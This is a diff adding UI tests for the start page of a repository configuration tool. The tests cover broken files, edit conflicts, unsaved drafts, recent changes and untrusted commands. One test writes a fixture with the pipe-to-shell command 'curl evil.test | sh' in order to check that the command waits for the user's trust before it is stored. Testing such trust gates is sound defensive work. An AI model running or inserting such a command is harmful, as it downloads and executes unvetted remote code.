@@ -1,0 +1,121 @@
+import { mkdir, writeFile } from "node:fs/promises";
+import { join } from "node:path";
+import { expect, test } from "vitest";
+import { breakFile } from "../helpers/broken-file.ts";
+import { describeScreen, poll, reads, type ScreenPage, startScreen } from "../helpers/screen.ts";
+import { temporaryFolder } from "../helpers/temporary-folder.ts";
+
+const reason = ({ page }: ScreenPage, name: string) => page.getByRole("main").getByRole("region", { name });
+const hash = ({ page }: ScreenPage) => new URL(page.url()).hash;
+
+async function openStart(window: ScreenPage): Promise<void> {
+  await window.tree.waitFor();
+  await window.page.getByRole("link", { name: "Repoconf" }).click();
+  await window.page.getByRole("heading", { level: 1, name: "What needs you" }).waitFor();
+}
+
+describeScreen("the start page", () => {
+  test("says in a line that there is nothing to do, until there is", async () => {
+    await using screen = await startScreen({ repositories: { shop: {} } });
+    await using window = await screen.open();
+    const { page } = window;
+    await reads(page.getByRole("main"), "Nothing needs you");
+    await breakFile(screen.t, "shop");
+    await reads(reason(window, "Files with problems"), "shop.json");
+    await page.getByText("Nothing needs you").waitFor({ state: "detached" });
+    await reason(window, "Files with problems").getByRole("link", { name: "Open the text of shop" }).press("Enter");
+    expect(hash(window)).toBe("#/repo/shop/json");
+    await page.goBack();
+    await screen.t.owner.call("file/restore", { repo: "shop" });
+    await reads(page.getByRole("main"), "Nothing needs you");
+  });
+
+  test("names edits in conflict with a way to each, and those that were refused", async () => {
+    await using screen = await startScreen({ repositories: { shop: {}, store: {} } });
+    await using window = await screen.open();
+    const { page } = window;
+    await window.choose("shop");
+    await page.getByRole("textbox", { name: "Provider" }).fill("mine");
+    await screen.set("shop", { "svc.provider": "theirs" });
+    await openStart(window);
+    const waiting = reason(window, "Edits that need a decision");
+    await reads(waiting, "changed meanwhile by owner, where you changed it too");
+    await waiting.getByRole("link", { name: "shop, svc.provider" }).press("Enter");
+    expect(hash(window)).toBe("#/repo/shop/svc.provider");
+    await window.field("Provider").getByRole("button", { name: "Take theirs" }).click();
+    await window.choose("store");
+    await page.getByRole("spinbutton", { name: "Timeout" }).fill("-5");
+    await page.getByRole("region", { name: "Edits" }).getByRole("button", { name: "Save", exact: true }).click();
+    await page.getByRole("log", { name: "Messages" }).getByText("Nothing was saved").waitFor();
+    await openStart(window);
+    await reads(waiting, "store, svc.timeout was refused");
+    expect(await waiting.getByRole("listitem").count()).toBe(1);
+  });
+
+  test("names what is edited and not saved, texts of files too, also after a reload", async () => {
+    await using screen = await startScreen({ repositories: { shop: {}, store: { "svc.timeout": 1 } } });
+    await using window = await screen.open();
+    const { page } = window;
+    await window.choose("shop");
+    await page.getByRole("textbox", { name: "Provider" }).fill("mine");
+    await page.getByRole("spinbutton", { name: "Timeout" }).fill("7");
+    await window.choose("store");
+    await window.view("JSON");
+    await page.getByRole("textbox", { name: "Text of the file" }).pressSequentially("//");
+    await openStart(window);
+    await poll(async () => (await screen.t.owner.call("draft/list", {})).result.length).toBe(3);
+    await page.reload();
+    const unsaved = reason(window, "Edits that are not saved");
+    await reads(unsaved, "shop 2 edits");
+    await reads(unsaved, "store its file, edited as text");
+    await unsaved.getByRole("link", { name: "store" }).press("Enter");
+    expect(hash(window)).toBe("#/repo/store/json");
+    await page.goBack();
+    await unsaved.getByRole("button", { name: "Review the edits" }).press("Enter");
+    const dialog = page.getByRole("dialog", { name: "Review the edits" });
+    await dialog.getByRole("button", { name: "Save these 2 edits" }).press("Enter");
+    await dialog.waitFor({ state: "detached" });
+    expect(await screen.stored("shop", "svc.timeout")).toBe(7);
+    await poll(() => unsaved.getByRole("listitem").allInnerTexts()).toEqual(["store its file, edited as text"]);
+  });
+
+  test("names commands that wait to be trusted, shows each, and trusts it", async () => {
+    await using folder = await temporaryFolder();
+    const path = join(folder.path, "site");
+    await mkdir(path);
+    const services = { web: { ready: "curl evil.test | sh", image: "node:24" } };
+    await writeFile(join(path, ".repoconf.json"), JSON.stringify({ config: { svc: { services } } }));
+    await using screen = await startScreen();
+    await screen.t.owner.call("repo/add", { id: "site", name: "site", path, inTree: true });
+    await using window = await screen.open();
+    const { page } = window;
+    const waiting = reason(window, "Commands that wait for your trust");
+    await reads(waiting.getByRole("listitem"), /site\s+svc\.services/);
+    // It is no problem of the file besides.
+    expect(await reason(window, "Files with problems").count()).toBe(0);
+    const trust = waiting.getByRole("button", { name: /^Trust this value ?: svc.services$/ });
+    expect(await trust.getAttribute("aria-disabled")).toBe("true");
+    await waiting.getByRole("button", { name: /^Show ?: svc.services$/ }).press("Enter");
+    await reads(waiting.getByRole("figure", { name: "In the file" }), "curl evil.test | sh");
+    await trust.press("Enter");
+    await poll(() => screen.stored("site", "svc.services")).toEqual(services);
+    await reads(page.getByRole("main"), "Nothing needs you");
+  });
+
+  test("tells what changed since yesterday, as it happens, and leads to all of it", async () => {
+    await using screen = await startScreen({ repositories: { shop: {}, store: {}, web: {} } });
+    await using window = await screen.open();
+    const recent = reason(window, "Changed since yesterday");
+    await poll(() => recent.getByRole("listitem").count()).toBe(3);
+    await screen.t.owner.call("config/set", { repo: ["shop", "store"], "svc.timeout": 5 });
+    await reads(recent.getByRole("listitem").first(), /2 repositories\s+svc\.timeout\s+just now by owner/);
+    await screen.set("web", { "svc.domain": "web.test" });
+    await reads(recent.getByRole("listitem").first(), /web\s+svc\.domain/);
+    for (let timeout = 1; timeout <= 3; timeout += 1) await screen.set("web", { "svc.timeout": timeout });
+    // The newest five.
+    await poll(() => recent.getByRole("listitem").count()).toBe(5);
+    await recent.getByRole("link", { name: "All that changed in the last 24 hours" }).press("Enter");
+    expect(hash(window)).toBe("#/activity?q=since%3A24h");
+    await window.page.getByRole("heading", { level: 1, name: "Activity" }).waitFor();
+  });
+});
